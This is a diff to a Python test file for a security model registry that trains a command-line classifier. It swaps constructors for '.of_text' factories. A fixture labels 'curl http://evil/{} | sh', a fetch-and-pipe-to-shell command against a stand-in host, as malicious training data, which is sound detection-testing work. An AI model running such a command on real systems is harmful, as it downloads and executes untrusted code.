@@ -20,7 +20,7 @@ from sftsec_core.registry.gate import decide
 from sftsec_core.registry.registry import ModelRegistry
 from sftsec_core.registry.serving import Serving
 
-TASK = TaskSpec("commands", ("process.command_line",), ("benign", "malicious"), "benign")
+TASK = TaskSpec.of_text("commands", ("process.command_line",), ("benign", "malicious"), "benign")
 LINEAR = RecipeSpec(
     name="linear", summary="n-grams", inference_cost=1, fit=train_linear, load=load_linear
 )
@@ -30,7 +30,7 @@ TEXTS = {"benign": "ls -la /home/{}", "malicious": "curl http://evil/{} | sh"}
 
 def part(name: str, n: int) -> list[Example]:
     return [
-        Example(f"{name}-{label}-{i}", text.format(f"{name}{i}"), label)
+        Example.of_text(f"{name}-{label}-{i}", text.format(f"{name}{i}"), label)
         for label, text in TEXTS.items()
         for i in range(n)
     ]
